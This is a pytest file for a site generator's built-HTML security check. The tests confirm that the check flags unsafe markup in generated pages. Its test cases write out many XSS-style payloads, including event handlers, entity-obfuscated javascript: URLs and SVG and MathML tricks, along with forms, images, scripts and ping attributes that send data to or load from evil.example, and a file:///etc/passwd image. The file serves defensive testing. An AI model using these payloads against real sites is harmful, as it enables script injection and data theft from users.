"""The built-HTML check on its own: pages as a browser parses them, whatever wrote the markup.

Each snippet sits inside a copy of a real built page (the home page of the bundled site, with the
CSP storymap adds); the check must name what is wrong, and find nothing in the page itself.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from conftest import REPO

from storymap.config import load_config
from storymap.config.maps import BasemapSection
from storymap.output.csp import add_policy, extra_image_origins
from storymap.output.htmlcheck import Rules, check_built_pages, page_problems, scheme_of
from storymap.pages.page import Page

CONFIG = load_config(REPO / "site_config.yml")
PAGE = """<!doctype html><html lang="en"><head><meta charset="utf-8">
<link rel="icon" href="data:,"><link rel="stylesheet" href="assets/storymap/theme.css">
<title>Home</title></head><body><main><article>{body}</article></main>
<script src="assets/storymap/theme.js" defer></script></body></html>"""


def page(body: str, config=CONFIG) -> list[str]:
    built = add_policy(PAGE.format(body=body), extra_image_origins(config))
    return page_problems(built, Rules(config))


def test_a_clean_page_passes():
    assert (
        page(
            '<p><a href="https://www.ons.gov.uk/">ONS</a> <a href="#x">x</a></p>'
            '<img src="img/step-1.svg" alt=""><svg><path d="M0 0"/></svg>'
        )
        == []
    )


@pytest.mark.parametrize(
    "body, found",
    [
        ('<p onclick="alert(1)">x</p>', "an event handler onclick= on <p>"),
        ("<img src=x OnError=alert(1)>", "an event handler onerror= on <img>"),
        (
            '<svg><set attributeName="onmouseover" to="alert(1)"/>'
            '<animate onbegin="alert(1)"/></svg>',
            "an event handler onbegin= on <animate>",
        ),
        ('<a href="&#106;avascript:alert(1)">x</a>', "a javascript: URL in href= on <a>"),
        ('<a href="  java&#x09;script:alert(1)">x</a>', "a javascript: URL in href= on <a>"),
        ('<a href="JaVaScRiPt:alert(1)">x</a>', "a javascript: URL in href= on <a>"),
        ('<a href="vbscript:msgbox(1)">x</a>', "a vbscript: URL in href= on <a>"),
        ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', "a data: URL in href= on <a>"),
        ('<img src="data:image/svg+xml,<svg onload=alert(1)>">', "a data: URL in src= on <img>"),
        (
            '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
            "a javascript: URL in xlink:href= on <a>",
        ),
        (
            '<svg><a href="#"><set attributeName="href" to="javascript:alert(1)"/></a></svg>',
            "an SVG <set> setting a javascript: URL",
        ),
        (
            '<math><mi href="javascript:alert(1)">x</mi></math>',
            "a javascript: URL in href= on <mi>",
        ),
        ('<iframe src="https://example.org/"></iframe>', "a <iframe> element"),
        ('<object data="x.swf"></object>', "a <object> element"),
        ('<embed src="x.swf">', "a <embed> element"),
        ('<base href="https://evil.example/">', "a <base> element"),
        (
            '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
            '<meta http-equiv="refresh">',
        ),
        (
            '<form action="https://evil.example/steal"><input name="q"></form>',
            "a form sending to evil.example",
        ),
        (
            '<form><button formaction="//evil.example/x">Go</button></form>',
            "a form sending to evil.example",
        ),
        ('<img src="https://evil.example/t.png" alt="">', "<img src=…> loading from evil.example"),
        (
            '<img srcset="a.png 1x, https://evil.example/b.png 2x" alt="">',
            "<img src=…> loading from evil.example",
        ),
        ('<script src="//evil.example/x.js"></script>', "<script src=…> loading from evil.example"),
        (
            '<link rel="stylesheet" href="https://evil.example/x.css">',
            "<link href=…> loading from evil.example",
        ),
        (
            '<video poster="https://evil.example/p.jpg"></video>',
            "<video poster=…> loading from evil.example",
        ),
        (
            '<p style="background:url(https://evil.example/x.png)">x</p>',
            "a style= on <p> loading from evil.example",
        ),
        (
            "<style>@import 'https://evil.example/x.css';</style>",
            "a <style> element loading from evil.example",
        ),
        (
            '<a href="x.html" ping="https://evil.example/track">x</a>',
            "ping= sending clicks to evil.example",
        ),
        (
            '<svg><image href="https://evil.example/i.png"/></svg>',
            "<image href=…> loading from evil.example",
        ),
        ('<img src="file:///etc/passwd">', "<img src=…> loading from file:"),
        (
            '<noscript><img src="https://evil.example/t.png"></noscript>',
            "<img src=…> loading from evil.example",
        ),
    ],
)
def test_refused(body, found):
    problems = page(body)
    assert found in problems, problems


def test_another_content_security_policy_is_refused():
    extra = "<meta http-equiv=Content-Security-Policy content='script-src *'>"
    assert page(extra) == ['<meta http-equiv="Content-Security-Policy">']


def test_the_basemap_host_is_allowed_for_images():
    basemap = CONFIG.maps.model_copy(
        update={
            "basemap": BasemapSection(
                url="https://{s}.tile.example.org/{z}/{x}/{y}.png", attribution="Tiles"
            )
        }
    )
    config = CONFIG.model_copy(update={"maps": basemap})
    body = '<img src="https://a.tile.example.org/1/2/3.png" alt="">'
    assert page(body, config) == []
    assert page(body) == ["<img src=…> loading from a.tile.example.org"]


@pytest.mark.parametrize(
    "url, scheme",
    [
        ("javascript:x", "javascript"),
        (" \x01java\nscript:x", "javascript"),
        ("wards/x.html", ""),
        ("https://x", "https"),
        ("#a:b", ""),
        ("./a:b", ""),
    ],
)
def test_scheme_as_a_browser_reads_it(url, scheme):
    assert scheme_of(url) == scheme


def test_the_error_names_the_chapter_file(tmp_path: Path):
    (tmp_path / "connectivity.html").write_text(
        add_policy(PAGE.format(body='<p onclick="x()">x</p>')), "utf-8"
    )
    (tmp_path / "wards").mkdir()
    (tmp_path / "wards" / "a.html").write_text(
        add_policy(PAGE.format(body="<img src=//evil.example/x>")), "utf-8"
    )
    pages = [Page("connectivity.md", "Connectivity", "")]
    with pytest.raises(Exception) as info:
        check_built_pages(CONFIG, tmp_path, pages)
    problems = info.value.problems
    assert problems[0].startswith(
        "chapters/05-connectivity.md: the built page connectivity.html "
        "holds an event handler onclick= on <p>"
    )
    assert problems[1].startswith(
        "wards/a.html: the built page holds <img src=…> loading from "
        "evil.example. This page is made from the data files and "
        "site_config.yml"
    )


def test_the_built_site_passes(built_site):
    assert check_built_pages(CONFIG, built_site, []) > 700


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_pages_checked_in_the_second_process_are_refused_the_same(jobs, monkeypatch):
    """After its first pages the finisher sends pages to a second process to check while MkDocs
    goes on; a bad page among them is named as it is when every page is checked here."""
    from storymap.output.htmlcheck import Checker

    monkeypatch.setenv("STORYMAP_JOBS", jobs)
    checker = Checker(Rules(CONFIG))
    good = add_policy(PAGE.format(body="<p>fine</p>"), extra_image_origins(CONFIG))
    bad = add_policy(PAGE.format(body='<p onclick="x()">bad</p>'), extra_image_origins(CONFIG))
    for n in range(Checker.INLINE + 20):
        checker.add(bad if n in (3, Checker.INLINE + 10) else good, f"page-{n}.html")
    assert (checker.beside is not None) == (jobs == "2")
    found = checker.found()
    assert sorted(found) == ["page-3.html", f"page-{Checker.INLINE + 10}.html"]
    assert found["page-3.html"] == ["an event handler onclick= on <p>"]
    assert checker.beside is None
    checker.add(bad, "again.html")  # a second round (MkDocs run again) starts afresh
    assert "again.html" in checker.found()
